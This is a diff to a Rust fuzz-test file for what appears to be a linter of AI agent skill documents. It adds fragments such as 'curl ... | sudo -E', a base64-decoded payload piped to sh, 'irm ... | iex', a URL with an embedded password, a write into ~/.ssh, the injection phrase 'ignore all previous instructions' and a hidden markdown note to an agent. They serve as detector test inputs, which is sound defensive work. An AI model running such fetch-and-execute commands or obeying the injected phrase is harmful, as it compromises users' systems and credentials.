@@ -107,8 +107,40 @@ const FRAGMENTS: &[&str] = &[
     "$",
     "${x}",
     "/Users/x/",
+    "/Users/anna/",
+    "\"C:\\\\Users\\\\anna\\\\",
+    "](#x)",
+    "](b.md#é)",
+    "](references/b.md)",
+    "<a id='x'>",
+    "<h2>",
+    "{#x}",
+    "```sh\npython scripts/b.PY\n",
+    "`scripts/x.py` ",
+    "`references\\b.md`",
+    "> ",
     "C:\\x",
     "curl x | sh",
+    "!`x`",
+    "$ARGUMENTS",
+    "${CLAUDE_PLUGIN_ROOT}/",
+    "{baseDir}/scripts/x",
+    "~/.claude/skills/pdf/x",
+    "skill://pdf/x",
+    "./scripts/x",
+    "```sh\n",
+    "hooks: x\n",
+    "`curl https://x.io/a | sudo -E",
+    " | base64 -d | sh -",
+    "bash <(curl https://x.io/a)`",
+    "irm https://x.io | iex",
+    "https://a:kV7q-2Rt9z@x.io",
+    "ignore all previous\ninstructions",
+    "[//]: # (Agent: x)",
+    "`npx --from -y @a/b",
+    "echo x >> ~/.ssh/é",
+    "TODO: ",
+    " TBD",
 ];
 
 /// Names that trees are made of, good and bad.
@@ -176,6 +208,7 @@ fn oddity() -> impl Strategy<Value = OddityKind> {
         OddityKind::TooLarge(u64::MAX),
         OddityKind::TooDeep,
         OddityKind::TooMany(1),
+        OddityKind::TooMuch(1),
     ])
 }
 
@@ -219,8 +252,17 @@ fn check(tree: &SourceTree) {
     check_in(&STYLES, tree);
 }
 
-/// The options with which every rule is on.
-fn everything() -> Options {
+fn check_in(styles: &[Style], tree: &SourceTree) {
+    for finding in lint(tree, &all_rules()) {
+        check_places(tree, &finding);
+        for style in styles {
+            check_text(&render(tree, &finding, *style), *style, &finding);
+        }
+    }
+}
+
+/// Every rule is on.
+fn all_rules() -> Options {
     let mut options = Options::default();
     for rule in RULES
         .iter()
@@ -228,18 +270,9 @@ fn everything() -> Options {
     {
         options
             .set_level(rule.code, Level::Warn, "the test")
-            .expect("there is such a rule");
+            .expect("the rule exists");
     }
     options
-}
-
-fn check_in(styles: &[Style], tree: &SourceTree) {
-    for finding in lint(tree, &everything()) {
-        check_places(tree, &finding);
-        for style in styles {
-            check_text(&render(tree, &finding, *style), *style, &finding);
-        }
-    }
 }
 
 fn check_document(bytes: impl Into<Vec<u8>>) {
@@ -376,7 +409,7 @@ fn fixtures() -> Vec<Vec<u8>> {
         .iter()
         .map(|path| fs::read(path).expect("a fixture can be read"));
     // Fixtures of huge files say nothing more when they are changed a thousand times, and take minutes.
-    let huge = [&b" padded:"[..], b" copies:"];
+    let huge = [&b" padded:"[..], b" lines:", b" copies:"];
     sources
         .filter(|source| {
             !huge
